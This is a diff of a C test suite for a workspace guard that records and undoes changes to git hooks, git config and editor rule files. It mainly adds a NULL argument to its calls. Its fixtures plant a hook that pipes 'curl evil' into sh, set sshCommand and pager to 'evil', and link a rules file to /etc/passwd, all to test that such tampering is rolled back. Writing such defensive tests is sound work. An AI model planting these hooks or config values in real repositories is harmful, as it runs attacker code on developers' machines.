@@ -6,6 +6,7 @@
  * diag on a large synthetic workspace. */
 #include "guard/guard.h"
 #include "policy/handoff.h"
+#include "policy/handoff.h"
 
 #include <dirent.h>
 #include <fcntl.h>
@@ -125,7 +126,7 @@ static void end_unchanged(struct guard *g, const char *end_says, const char *non
 	struct guard_report rep = { 0 };
 	if (!g)
 		return;
-	is_int(guard_end(g, &rep), 0, "%s", end_says);
+	is_int(guard_end(g, &rep, NULL), 0, "%s", end_says);
 	is_int(rep.n_changes, 0, "%s", none_says);
 	guard_report_free(&rep);
 	guard_free(g);
@@ -310,7 +311,7 @@ static void test_undo(void)
 
 	struct guard *g = NULL;
 	struct guard_report rep = { 0 };
-	int r = guard_begin(&f.o, &g, &rep);
+	int r = guard_begin(&f.o, &g, &rep, NULL);
 	is_int(r, 0, "guard_begin");
 	is_int(rep.n_changes, 0, "nothing to undo at the first begin");
 	ok(rep.n_files >= 5, "baseline holds the hand-off files (%zu)", rep.n_files);
@@ -339,7 +340,7 @@ static void test_undo(void)
 	put(f.ws, "src/main.c", "int main(void) { return 1; }\n");
 	put(f.ws, ".git/objects/ab/new", "object\n");
 
-	r = guard_end(g, &rep);
+	r = guard_end(g, &rep, NULL);
 	is_int(r, 0, "guard_end");
 	check_change(&rep, ".git/hooks/pre-commit", GUARD_CREATED, NULL, "#!/bin/sh\ncurl evil | sh\n");
 	ok(!exists(f.ws, ".git/hooks/pre-commit"), "the new hook is gone from .git/hooks");
@@ -427,7 +428,7 @@ static void test_more_kinds(void)
 
 	struct guard *g = NULL;
 	struct guard_report rep = { 0 };
-	is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin");
+	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin");
 	guard_report_free(&rep);
 	if (g) {
 
@@ -441,7 +442,7 @@ static void test_more_kinds(void)
 		rm_rf(idea);
 		put(f.ws, "web/.git", "gitdir: src\n");
 
-		is_int(guard_end(g, &rep), 0, "guard_end");
+		is_int(guard_end(g, &rep, NULL), 0, "guard_end");
 		check_change(&rep, "tools/hooks/pre-commit", GUARD_CHANGED, NULL, "#!/bin/sh\nevil\n");
 		_cleanup_free_ char *hook = slurp(f.ws, ".git/hooks/pre-commit");
 		is_str(hook, "#!/bin/sh\nlint\n", "the hook behind the symlinked .git/hooks is restored");
@@ -524,13 +525,13 @@ static void test_over_cap(void)
 
 	struct guard *g = NULL;
 	struct guard_report rep = { 0 };
-	is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin with a 1 KiB cap");
+	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin with a 1 KiB cap");
 	ok(strv_contains(rep.unguarded, ".git/hooks/pre-push"), "the 4 KiB hook is named as unguarded");
 	is_int(strv_length(rep.unguarded), 1, "and nothing else");
 	guard_report_free(&rep);
 	if (g) {
 		put_mode(f.ws, ".git/hooks/pre-push", big2, 0755);
-		is_int(guard_end(g, &rep), 0, "guard_end");
+		is_int(guard_end(g, &rep, NULL), 0, "guard_end");
 		check_change(&rep, ".git/hooks/pre-push", GUARD_UNRESTORABLE, NULL, big2);
 		ok(!exists(f.ws, ".git/hooks/pre-push"), "the changed over-cap hook is gone from the workspace");
 		is_int(rep.n_changes, 1, "one change");
@@ -541,7 +542,7 @@ static void test_over_cap(void)
 		f.o.file_cap = 0;
 		f.o.total_cap = 16;
 		g = NULL;
-		is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin with a 16-byte total cap");
+		is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin with a 16-byte total cap");
 		ok(strv_length(rep.unguarded) >= 3, "files past the total cap are named as unguarded (%zu)",
 		   strv_length(rep.unguarded));
 		guard_report_free(&rep);
@@ -565,7 +566,7 @@ static int run_killed(const struct fixture *f, const char *rel, const char *cont
 		close(p[0]);
 		struct guard *g = NULL;
 		struct guard_report rep = { 0 };
-		int r = guard_begin(&f->o, &g, &rep);
+		int r = guard_begin(&f->o, &g, &rep, NULL);
 		guard_report_free(&rep);
 		if (r == 0)
 			put_mode(f->ws, rel, content, 0755);
@@ -594,7 +595,7 @@ static void test_crash(void)
 	if (pid == 0) {
 		struct guard *g = NULL;
 		struct guard_report rep = { 0 };
-		int r = guard_begin(&f.o, &g, &rep);
+		int r = guard_begin(&f.o, &g, &rep, NULL);
 		guard_report_free(&rep);
 		if (r < 0)
 			_exit(2);
@@ -613,7 +614,7 @@ static void test_crash(void)
 
 	struct guard *g = NULL;
 	struct guard_report rep = { 0 };
-	is_int(guard_begin(&f.o, &g, &rep), 0, "the next guard_begin");
+	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "the next guard_begin");
 	check_change(&rep, ".git/hooks/post-checkout", GUARD_CHANGED, NULL, evil);
 	is_int(rep.n_changes, 1, "one change undone");
 	_cleanup_free_ char *hook = slurp(f.ws, ".git/hooks/post-checkout");
@@ -629,18 +630,18 @@ static void test_crash(void)
 	 * shared. A run killed outright beside it is over, and leaves
 	 * nothing behind that keeps it alive: no pid to be reused, no file. */
 	g = NULL;
-	is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin");
+	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin");
 	guard_report_free(&rep);
 	guard_free(g);		/* this live one stays registered */
 	is_int(run_killed(&f, ".git/config", "[core]\n\tsshCommand = evil\n"), 0,
 	       "a second run began beside it, changed .git/config and was killed");
 	g = NULL;
-	is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin beside a live run of this process");
+	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin beside a live run of this process");
 	is_int(rep.n_changes, 0, "a live run's changes are not undone at begin");
 	is_int(rep.n_copied, 0, "its baseline is reused as is");
 	guard_report_free(&rep);
 	if (g) {
-		is_int(guard_end(g, &rep), 0, "guard_end");
+		is_int(guard_end(g, &rep, NULL), 0, "guard_end");
 		check_change(&rep, ".git/config", GUARD_CHANGED, NULL, "[core]\n\tsshCommand = evil\n");
 		guard_report_free(&rep);
 		guard_free(g);
@@ -657,16 +658,16 @@ static void test_killed_beside_live(void)
 	fixture_init(&f, NULL);
 	struct guard *a = NULL, *c = NULL;
 	struct guard_report rep = { 0 };
-	is_int(guard_begin(&f.o, &a, &rep), 0, "first run begun");
+	is_int(guard_begin(&f.o, &a, &rep, NULL), 0, "first run begun");
 	guard_report_free(&rep);
 	is_int(run_killed(&f, ".git/hooks/pre-push", "#!/bin/sh\nevil\n"), 0,
 	       "a second run began beside it, planted a hook and was killed");
-	is_int(guard_begin(&f.o, &c, &rep), 0, "a third run begun");
+	is_int(guard_begin(&f.o, &c, &rep, NULL), 0, "a third run begun");
 	is_int(rep.n_changes, 0, "the first run is under way: nothing undone at begin");
 	is_int(rep.n_copied, 0, "its baseline is shared");
 	guard_report_free(&rep);
 	if (c) {
-		is_int(guard_end(c, &rep), 0, "the third run ends while the first runs");
+		is_int(guard_end(c, &rep, NULL), 0, "the third run ends while the first runs");
 		check_change(&rep, ".git/hooks/pre-push", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
 		is_int(rep.n_changes, 1, "it undid the killed run's hook");
 		guard_report_free(&rep);
@@ -675,7 +676,7 @@ static void test_killed_beside_live(void)
 	end_unchanged(a, "the first run ends last", "nothing left to undo");
 	put(f.ws, ".git/config", "[core]\n\teditor = vi\n");
 	struct guard *d = NULL;
-	is_int(guard_begin(&f.o, &d, &rep), 0, "guard_begin after every run is over");
+	is_int(guard_begin(&f.o, &d, &rep, NULL), 0, "guard_begin after every run is over");
 	is_int(rep.n_changes, 0, "the user's edit between runs is not undone");
 	is_int(rep.n_copied, 1, "it is the new baseline");
 	guard_report_free(&rep);
@@ -698,19 +699,19 @@ static void test_failed_end(void)
 	if (pid == 0) {
 		struct guard *g = NULL;
 		struct guard_report rep = { 0 };
-		if (guard_begin(&f.o, &g, &rep) < 0)
+		if (guard_begin(&f.o, &g, &rep, NULL) < 0)
 			_exit(2);
 		guard_report_free(&rep);
 		put_mode(f.ws, ".git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
 		/* the quarantine cannot be made where a file is in the way */
 		put(f.state, "quarantine", "in the way\n");
-		int r = guard_end(g, &rep);
+		int r = guard_end(g, &rep, NULL);
 		guard_report_free(&rep);
 		guard_free(g);
 		if (r >= 0)
 			_exit(3);
 		g = NULL;
-		if (guard_begin(&f.o, &g, &rep) < 0)
+		if (guard_begin(&f.o, &g, &rep, NULL) < 0)
 			_exit(4);
 		bool shared = rep.n_changes == 0 && rep.n_copied == 0;
 		guard_report_free(&rep);
@@ -726,7 +727,7 @@ static void test_failed_end(void)
 
 	struct guard *g = NULL;
 	struct guard_report rep = { 0 };
-	is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin once that process is gone");
+	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin once that process is gone");
 	check_change(&rep, ".git/hooks/pre-commit", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
 	ok(!exists(f.ws, ".git/hooks/pre-commit"), "the change is undone");
 	is_int(rep.n_changes, 1, "and nothing else");
@@ -746,7 +747,7 @@ static void test_torn_manifest(void)
 	if (pid == 0) {
 		struct guard *g = NULL;
 		struct guard_report rep = { 0 };
-		int r = guard_begin(&f.o, &g, &rep);
+		int r = guard_begin(&f.o, &g, &rep, NULL);
 		guard_report_free(&rep);
 		put_mode(f.ws, ".git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
 		_exit(r < 0 ? 2 : 0);
@@ -759,7 +760,7 @@ static void test_torn_manifest(void)
 	ok(truncate(manifest, 40) == 0, "its manifest torn");
 	struct guard *g = NULL;
 	struct guard_report rep = { 0 };
-	is_int(guard_begin(&f.o, &g, &rep), -EBADMSG, "the next guard_begin refuses");
+	is_int(guard_begin(&f.o, &g, &rep, NULL), -EBADMSG, "the next guard_begin refuses");
 	ok(!g, "and begins nothing");
 	guard_report_free(&rep);
 	ok(exists(f.ws, ".git/hooks/pre-commit"), "the change is left for the user to judge");
@@ -772,7 +773,7 @@ static void test_concurrent(void)
 	fixture_init(&f, NULL);
 	struct guard *a = NULL;
 	struct guard_report rep = { 0 };
-	is_int(guard_begin(&f.o, &a, &rep), 0, "first guard begun");
+	is_int(guard_begin(&f.o, &a, &rep, NULL), 0, "first guard begun");
 	guard_report_free(&rep);
 	if (!a) {
 		fixture_done(&f);
@@ -791,7 +792,7 @@ static void test_concurrent(void)
 		close(to_parent[0]);
 		struct guard *b = NULL;
 		struct guard_report r = { 0 };
-		int ret = guard_begin(&f.o, &b, &r);
+		int ret = guard_begin(&f.o, &b, &r, NULL);
 		int msg[3] = { ret, (int)r.n_copied, (int)r.n_changes };
 		guard_report_free(&r);
 		/* the second run writes before the first ends */
@@ -802,7 +803,7 @@ static void test_concurrent(void)
 			_exit(1);
 		/* and after */
 		put_mode(f.ws, ".git/hooks/from-b", "evil-b\n", 0755);
-		ret = guard_end(b, &r);
+		ret = guard_end(b, &r, NULL);
 		int done[2] = { ret, find_change(&r, ".git/hooks/from-b") && r.n_changes == 1 };
 		guard_report_free(&r);
 		guard_free(b);
@@ -819,7 +820,7 @@ static void test_concurrent(void)
 	is_int(msg[2], 0, "and undoes nothing of a live run");
 
 	put_mode(f.ws, ".git/hooks/from-a", "evil-a\n", 0755);
-	is_int(guard_end(a, &rep), 0, "first guard ends while the second runs");
+	is_int(guard_end(a, &rep, NULL), 0, "first guard ends while the second runs");
 	check_change(&rep, ".git/hooks/from-a", GUARD_CREATED, NULL, "evil-a\n");
 	check_change(&rep, ".git/config", GUARD_CHANGED, NULL, "[core]\n\tpager = evil-b\n");
 	_cleanup_free_ char *config = slurp(f.ws, ".git/config");
@@ -853,25 +854,25 @@ static void test_unchanged(void)
 	fixture_init(&f, NULL);
 	struct guard *g = NULL;
 	struct guard_report rep = { 0 };
-	is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin");
+	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin");
 	size_t files = rep.n_files;
 	guard_report_free(&rep);
 	if (!g) {
 		fixture_done(&f);
 		return;
 	}
-	is_int(guard_end(g, &rep), 0, "guard_end on an unchanged workspace");
+	is_int(guard_end(g, &rep, NULL), 0, "guard_end on an unchanged workspace");
 	is_int(rep.n_changes, 0, "reports no change");
 	guard_report_free(&rep);
 	guard_free(g);
 
 	g = NULL;
-	is_int(guard_begin(&f.o, &g, &rep), 0, "a second guard_begin");
+	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "a second guard_begin");
 	is_int(rep.n_copied, 0, "copies nothing");
 	is_int(rep.n_files, files, "and holds the same files");
 	guard_report_free(&rep);
 	if (g) {
-		is_int(guard_end(g, &rep), 0, "guard_end");
+		is_int(guard_end(g, &rep, NULL), 0, "guard_end");
 		guard_report_free(&rep);
 		guard_free(g);
 	}
@@ -879,7 +880,7 @@ static void test_unchanged(void)
 	/* the user's own edit between runs is the new baseline */
 	put(f.ws, ".git/config", "[core]\n\teditor = vi\n");
 	g = NULL;
-	is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin after the user changed .git/config");
+	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin after the user changed .git/config");
 	is_int(rep.n_copied, 1, "copies that one file again");
 	is_int(rep.n_changes, 0, "and undoes nothing");
 	guard_report_free(&rep);
@@ -934,9 +935,9 @@ static void test_nothing_written(void)
 	for (int i = 0; i < 3; i++) {
 		struct guard *g = NULL;
 		struct guard_report rep = { 0 };
-		all_ok &= guard_begin(&o, &g, &rep) == 0 && rep.n_changes == 0;
+		all_ok &= guard_begin(&o, &g, &rep, NULL) == 0 && rep.n_changes == 0;
 		guard_report_free(&rep);
-		all_ok &= g && guard_end(g, &rep) == 0 && rep.n_changes == 0;
+		all_ok &= g && guard_end(g, &rep, NULL) == 0 && rep.n_changes == 0;
 		guard_report_free(&rep);
 		guard_free(g);
 		if (i == 0) {
@@ -970,13 +971,13 @@ static void test_cross_filesystem(void)
 	fixture_init(&f, "/dev/shm");
 	struct guard *g = NULL;
 	struct guard_report rep = { 0 };
-	is_int(guard_begin(&f.o, &g, &rep), 0, "guard_begin with the state on another filesystem");
+	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin with the state on another filesystem");
 	guard_report_free(&rep);
 	if (g) {
 		put(f.ws, ".cursor/rules/a/b.md", "evil\n");
 		slink(f.ws, ".cursor/rules/link", "/etc/passwd");
 		put(f.ws, ".git/config", "[core]\n\tpager = evil\n");
-		is_int(guard_end(g, &rep), 0, "guard_end copies across filesystems");
+		is_int(guard_end(g, &rep, NULL), 0, "guard_end copies across filesystems");
 		check_change(&rep, ".cursor", GUARD_CREATED, "rules/a/b.md", "evil\n");
 		const struct guard_change *c = find_change(&rep, ".cursor");
 		_cleanup_free_ char *t = c && c->quarantined ? link_target(c->quarantined, "rules/link") : NULL;
@@ -1055,13 +1056,13 @@ static void test_timing(void)
 	struct guard *g = NULL;
 	struct guard_report rep = { 0 };
 	t0 = now_usec();
-	int r = guard_begin(&o, &g, &rep);
+	int r = guard_begin(&o, &g, &rep, NULL);
 	double begin_ms = ms_since(t0);
 	size_t files = rep.n_files, copied = rep.n_copied;
 	guard_report_free(&rep);
 	is_int(r, 0, "guard_begin on the large workspace");
 	t0 = now_usec();
-	r = g ? guard_end(g, &rep) : -EINVAL;
+	r = g ? guard_end(g, &rep, NULL) : -EINVAL;
 	double end_ms = ms_since(t0);
 	is_int(r, 0, "guard_end on the large workspace");
 	is_int(rep.n_changes, 0, "no change");
@@ -1070,13 +1071,13 @@ static void test_timing(void)
 
 	g = NULL;
 	t0 = now_usec();
-	r = guard_begin(&o, &g, &rep);
+	r = guard_begin(&o, &g, &rep, NULL);
 	double again_ms = ms_since(t0);
 	is_int(r, 0, "a second guard_begin");
 	is_int(rep.n_copied, 0, "reuses every copy");
 	guard_report_free(&rep);
 	t0 = now_usec();
-	r = g ? guard_end(g, &rep) : -EINVAL;
+	r = g ? guard_end(g, &rep, NULL) : -EINVAL;
 	double end2_ms = ms_since(t0);
 	guard_report_free(&rep);
 	guard_free(g);
